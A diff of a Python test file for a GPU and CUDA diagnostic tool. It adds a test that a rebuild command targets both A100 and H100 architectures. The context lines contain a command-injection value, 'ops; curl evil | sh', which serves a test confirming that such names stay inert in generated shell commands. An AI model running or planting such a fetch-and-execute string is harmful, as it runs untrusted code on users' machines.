@@ -358,3 +358,13 @@ def test_names_from_a_replayed_report_stay_names_in_the_fix() -> None:
     for cmd in commands:
         words = shlex.split(cmd)  # as the shell splits it: the name is one word, never a command
         assert "curl" not in words and "ops; curl evil | sh" in words
+
+
+def test_a_rebuild_keeps_the_kernels_of_every_gpu_here(run_cli, built, tmp_path: Path) -> None:
+    """An A100 and an H100: the sm_80 extension fails on the H100 only, and its rebuild must target both
+    (built for 9.0 alone it would fail on the A100 instead)."""
+    machine = H100 + 'device name="NVIDIA A100-SXM4-80GB" cc=8.0 total=85520809984 used=1073741824\n'
+    site = _install(tmp_path / "site", built["sm80"])
+    r = run_cli("check", "--json", "--only", "driver,extensions", machine=machine, env=_env(site))
+    (f,) = [f for f in r.json["findings"] if f["code"] == "CD240"]
+    assert "H100" in f["title"] and f["fix"][0]["commands"][0].startswith('TORCH_CUDA_ARCH_LIST="8.0;9.0" ')
